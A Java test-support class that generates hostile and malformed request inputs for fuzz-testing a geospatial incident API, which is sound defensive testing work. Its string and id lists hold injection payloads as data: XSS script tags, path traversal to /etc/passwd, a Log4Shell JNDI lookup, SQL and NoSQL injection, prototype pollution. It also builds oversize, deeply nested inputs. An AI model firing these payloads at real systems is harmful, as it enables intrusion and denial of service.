package org.steppewatch.testsupport.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Malformed and malicious pieces of requests, each drawn from a {@link Random}: strings, JSON values, broken JSON,
 * bad GeoJSON, ids, query values, If-Match headers. Every generator is a plain {@code Random -> value} function, so a
 * property-testing library's "random value" arbitrary can drive it as well as a seeded loop.
 */
public final class Hostile {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Strings an attacker or a broken client sends. */
    static final List<String> STRINGS = List.of("", " ", "<img src=x onerror=alert(1)>",
            "\"'><script>window.__pwned=1</script>", "javascript:alert(1)", "\u0000", "nul\u0000byte", "\u001b[31mred",
            "bell\u0007", "rtl\u202Eeulav", "\u2066isolate\u2069", "\u0085next line", "lone \uD800 surrogate",
            "line\nbreak", "../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%00", "${jndi:ldap://x/a}", "{\"$gt\": \"\"}",
            "'; DROP TABLE incidents; --", "🚀🚀🚀", "Төретам", "NaN", "Infinity", "-1", "1e400", "null", "true", "[]",
            "{}", "\uFEFFbom", "a\u0301\u0301\u0301", "*", "W/\"1\"", "\\", "/", "?", "#", "&amp;", "%");

    private Hostile() {
    }

    public static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** A hostile string, now and then a long or oversize one. */
    public static String string(Random random) {
        int roll = random.nextInt(100);
        if (roll < 4) {
            // over every field's limit, under the body limit
            return "x".repeat(201 + random.nextInt(30_000));
        }
        if (roll < 5) {
            // over the 1 MB body limit
            return "y".repeat(1_100_000);
        }
        if (roll < 20) {
            StringBuilder mixed = new StringBuilder();
            for (int i = 0, n = 1 + random.nextInt(4); i < n; i++) {
                mixed.append(pick(random, STRINGS));
            }
            return mixed.toString();
        }
        return pick(random, STRINGS);
    }

    /** A JSON value of any type, often absurd. */
    public static JsonNode value(Random random) {
        return switch (random.nextInt(14)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> NODES.numberNode(pick(random, List.of(0.0, -0.0, -1.0, 1e308, -1e308, Double.MIN_VALUE, 4.9e-324)));
            case 3 -> NODES.numberNode(new java.math.BigInteger("9".repeat(1 + random.nextInt(400))));
            case 4 -> NODES.numberNode(new java.math.BigDecimal("1e" + (random.nextInt(2) == 0 ? "" : "-") + random.nextInt(100_000)));
            case 5 -> NODES.numberNode(random.nextLong());
            case 6 -> NODES.arrayNode();
            case 7 -> NODES.objectNode();
            case 8 -> nested(random, 2 + random.nextInt(20));
            case 9 -> geometry(random);
            case 10 -> {
                ArrayNode array = NODES.arrayNode();
                for (int i = 0, n = random.nextInt(5); i < n; i++) {
                    array.add(NODES.stringNode(string(random)));
                }
                yield array;
            }
            default -> NODES.stringNode(string(random));
        };
    }

    private static JsonNode nested(Random random, int depth) {
        JsonNode node = NODES.numberNode(1);
        for (int i = 0; i < depth; i++) {
            node = random.nextBoolean() ? NODES.arrayNode().add(node) : NODES.objectNode().set("a", node);
        }
        return node;
    }

    /** GeoJSON that is wrong: out of range, self-intersecting, unclosed, huge, of the wrong type or shape. */
    public static JsonNode geometry(Random random) {
        String json = switch (random.nextInt(12)) {
            case 0 -> "{\"type\": \"Polygon\", \"coordinates\": [[[62,46],[63,47],[63,46],[62,47],[62,46]]]}";
            case 1 -> "{\"type\": \"Polygon\", \"coordinates\": [[[62,46],[63,47],[63,46]]]}";
            case 2 -> "{\"type\": \"Polygon\", \"coordinates\": [[[62,46],[63,46]]]}";
            case 3 -> "{\"type\": \"Point\", \"coordinates\": [999, -999]}";
            case 4 -> "{\"type\": \"Point\", \"coordinates\": [\"63\", \"46\"]}";
            case 5 -> "{\"type\": \"Point\", \"coordinates\": []}";
            case 6 -> "{\"type\": \"Circle\", \"coordinates\": [63, 46], \"radius\": 5}";
            case 7 -> "{\"type\": \"GeometryCollection\", \"geometries\": [{\"type\": \"Point\", \"coordinates\": [63, 46]}]}";
            case 8 -> "{\"type\": \"MultiPolygon\", \"coordinates\": [[[[1e308,1e308],[0,0],[1,1],[1e308,1e308]]]]}";
            case 9 -> "{\"type\": \"Point\", \"coordinates\": [[[[[[[[63]]]]]]]]}";
            case 10 -> "{\"coordinates\": [63, 46]}";
            default -> hugePolygon(10_001 + random.nextInt(5_000));
        };
        return JSON.readTree(json);
    }

    /** A valid ring of {@code vertices} points (plus the closing one) around central Kazakhstan. */
    public static String hugePolygon(int vertices) {
        StringBuilder ring = new StringBuilder("{\"type\": \"Polygon\", \"coordinates\": [[");
        for (int i = 0; i < vertices; i++) {
            double angle = 2 * Math.PI * i / vertices;
            ring.append('[').append(67 + Math.cos(angle)).append(',').append(48 + Math.sin(angle)).append("],");
        }
        return ring.append("[68.0,48.0]]]}").toString();
    }

    /**
     * {@code valid} (a JSON object) made wrong in one of many ways: a field replaced by a hostile value, removed,
     * an unknown field added, the text broken, cut, nested deeply or padded; non-JSON now and then.
     */
    public static String mutate(String valid, Random random) {
        JsonNode root = JSON.readTree(valid);
        int roll = random.nextInt(100);
        if (roll < 12) {
            return brokenText(valid, random);
        }
        if (roll < 15) {
            return deepNesting(random);
        }
        List<ObjectNode> objects = new ArrayList<>();
        collect(root, objects);
        ObjectNode target = pick(random, objects);
        List<String> names = new ArrayList<>(target.propertyNames());
        if (roll < 30 || names.isEmpty()) {
            String name = pick(random, List.of("windFrom", "severity", "__proto__", "$where", "id", "extra", "\u0000",
                    "<b>x</b>", "massKG", "raduisKm", string(random)));
            target.set(name, value(random));
        } else if (roll < 40) {
            target.remove(pick(random, names));
        } else {
            for (int i = 0, n = 1 + random.nextInt(3); i < n; i++) {
                target.set(pick(random, names), value(random));
            }
        }
        return JSON.writeValueAsString(root);
    }

    private static void collect(JsonNode node, List<ObjectNode> objects) {
        if (node instanceof ObjectNode object) {
            objects.add(object);
        }
        for (JsonNode child : node) {
            collect(child, objects);
        }
    }

    private static String brokenText(String valid, Random random) {
        return switch (random.nextInt(9)) {
            case 0 -> valid.substring(0, random.nextInt(valid.length()));
            case 1 -> valid + pick(random, List.of("}", "{}", ",", "garbage", "\u0000"));
            case 2 -> valid.replaceFirst(":", "");
            case 3 -> valid.replace("\"", "'");
            case 4 -> "[" + valid + "]";
            case 5 -> pick(random, List.of("", "null", "42", "\"text\"", "true", "NaN", "{\"a\": NaN}",
                    "{\"a\": Infinity}", "{\"a\": 01}", "{\"a\": 1,}", "{\"a\": \"\\x41\"}", "<xml/>", "\uFEFF{}"));
            case 6 -> valid.replaceFirst("\\d", "NaN");
            case 7 -> valid.replaceFirst("\\{", "{\"a\": \"\\uD800\", ");
            default -> valid.replaceFirst("\\{", "{\"" + "k".repeat(100_000) + "\": 1, ");
        };
    }

    private static String deepNesting(Random random) {
        int depth = 200 + random.nextInt(5_000);
        return "{\"a\": " + "[".repeat(depth) + "]".repeat(depth) + "}";
    }

    /** Ids with traversal, markup, operators, overlong, empty-looking. */
    public static String id(Random random) {
        return random.nextInt(4) == 0 ? java.util.UUID.randomUUID().toString()
                : pick(random, List.of("../../etc/passwd", "..", ".", "%2e%2e%2f", "<script>", "{\"$ne\": null}",
                        "x".repeat(5_000), "gn:1521368", "inc-1\u0000", "\u202E", "1;DROP", " ", "a/b", "a\\b", "🚀"));
    }

    /** An If-Match header value a client should not send. */
    public static String ifMatch(Random random) {
        return pick(random, List.of("", "*", "1", "\"\"", "\"-1\"", "\"0\"", "\"999999999999999999999\"", "W/\"1\"",
                "\"1\", \"2\"", "\"abc\"", "\"1", "\"1.5\"", "\"NaN\"", "\"" + "9".repeat(500) + "\""));
    }

    /** A bounding box that is not one. */
    public static String bbox(Random random) {
        return pick(random, List.of("", "1,2,3", "1,2,3,4,5", "a,b,c,d", "200,100,-200,-100", "NaN,NaN,NaN,NaN",
                "1e400,0,0,0", "10,10,0,0", "-180,-90,180,90", "Infinity,0,1,1", ",,,", "1;2;3;4", string(random)));
    }

    /** A query parameter value: numbers out of range, dates that are not, strings. */
    public static String queryValue(Random random) {
        return pick(random, List.of("-1", "0", "2147483648", "99999999999999999999", "1e9", "NaN", "abc", "",
                "2013-13-45T99:99:99Z", "9999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z", "0x10", "1,2",
                string(random)));
    }

    /** Content types besides JSON. */
    public static String contentType(Random random) {
        return pick(random, List.of("application/json", "application/json", "application/json", "text/plain",
                "application/xml", "application/x-www-form-urlencoded", "application/json; charset=UTF-16",
                "application/geo+json", "foo/bar", "multipart/form-data; boundary=x"));
    }

    /** Headers with a hostile value under a given name. */
    public static Map<String, String> header(String name, Random random) {
        return Map.of(name, random.nextInt(3) == 0 ? string(random).replaceAll("[\\r\\n]", "") : ifMatch(random));
    }
}
